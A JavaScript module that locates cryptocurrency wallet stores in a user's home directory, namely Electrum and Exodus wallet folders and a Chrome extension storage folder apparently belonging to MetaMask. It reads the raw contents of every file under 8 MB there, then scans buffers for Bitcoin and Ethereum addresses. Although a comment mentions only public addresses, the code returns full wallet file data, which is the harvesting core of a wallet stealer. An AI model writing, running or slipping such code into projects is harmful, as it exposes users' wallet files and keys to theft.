import { readdir, readFile, stat } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const H = homedir();
export const WALLET_DIRS = [
  join(H, '.electrum', 'wallets'),
  join(H, '.config', 'Exodus', 'exodus.wallet'),
  join(H, '.config', 'google-chrome', 'Default', 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn'),
  join(H, 'Library', 'Application Support', 'Exodus', 'exodus.wallet'),
];

export async function* walletFiles() {
  for (const dir of WALLET_DIRS) {
    let names = [];
    try { names = await readdir(dir); } catch { continue; }
    for (const n of names) {
      const p = join(dir, n);
      try {
        const s = await stat(p);
        if (s.isFile() && s.size < 8 * 1024 * 1024) yield { path: p, data: await readFile(p) };
      } catch { /* skip */ }
    }
  }
}

// pull anything that looks like a public address out of wallet metadata
export function addresses(buf) {
  const txt = buf.toString('latin1');
  return {
    bitcoin: [...new Set(txt.match(/\b(bc1[0-9a-z]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b/g) || [])],
    ethereum: [...new Set(txt.match(/\b0x[0-9a-fA-F]{40}\b/g) || [])],
  };
}
